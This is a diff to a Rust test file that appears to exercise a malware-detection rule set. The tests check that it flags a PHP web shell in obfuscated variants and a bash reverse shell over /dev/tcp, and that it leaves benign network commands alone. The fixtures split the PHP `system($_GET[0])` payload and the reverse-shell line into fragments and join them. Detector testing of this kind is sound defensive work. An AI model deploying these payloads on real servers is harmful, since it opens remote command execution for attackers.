@@ -89,12 +89,18 @@ fn shells_of_the_web_and_of_the_network_are_malware_in_one_line_or_in_many() {
         assert_eq!(found, [(name.to_owned(), Meaning::Malware)], "{text}");
     }
     let short = ["<?=sys", "tem($_GE", "T[0])?>"].concat();
-    for text in
-        [php(&"# nothing\n".repeat(500)), short.clone(), short.replace("system(", "`").replace(")", "`")]
-    {
+    let blanks = short.replace("system(", &format!("system(\n{}", "\t".repeat(40)));
+    for text in [short.clone(), short.replace("system(", "`").replace(")", "`"), blanks] {
         let found = hits(&rules, Part { path: "srv/x", bytes: text.as_bytes(), whole: true });
         assert_eq!(found, [("php_web_shell".to_owned(), Meaning::Malware)], "{text}");
     }
+    let inside = ["\\nbash -", "i >& /dev/t", "cp/192.0.2.1/4444 0>", "&1"].concat();
+    let found = hits(&rules, Part { path: "srv/x", bytes: inside.as_bytes(), whole: true });
+    assert_eq!(found, [("reverse_shell_script".to_owned(), Meaning::Malware)]);
+    // Far apart it may be what a manual says of it.
+    let far = php(&"# nothing\n".repeat(500));
+    let found = hits(&rules, Part { path: "srv/x", bytes: far.as_bytes(), whole: true });
+    assert_eq!(found, [("php_runs_a_request".to_owned(), Meaning::Suspicious)]);
     for text in [
         short.trim_start_matches("<?=").to_owned(),
         php("\n$").replace("POST[", "POSTED["),
@@ -134,6 +140,7 @@ fn shells_over_the_network_are_for_people_to_look_at() {
         "socat UNIX-LISTEN:x EXEC:/usr/bin/backup",
         "timeout 1 bash -c '</dev/tcp/127.0.0.1/5432' && echo up",
         "exec 3<>/dev/tcp/127.0.0.1/80; printf 'GET / HTTP/1.0' >&3",
+        "Started with bash -i it reads its files.\nIt opens /dev/tcp/HOST/PORT itself.",
         "mkfifo /run/x; cat /run/x | sh -i\nnc -z localhost 1",
     ] {
         let found = hits(&rules, Part { path: "srv/x", bytes: text.as_bytes(), whole: true });
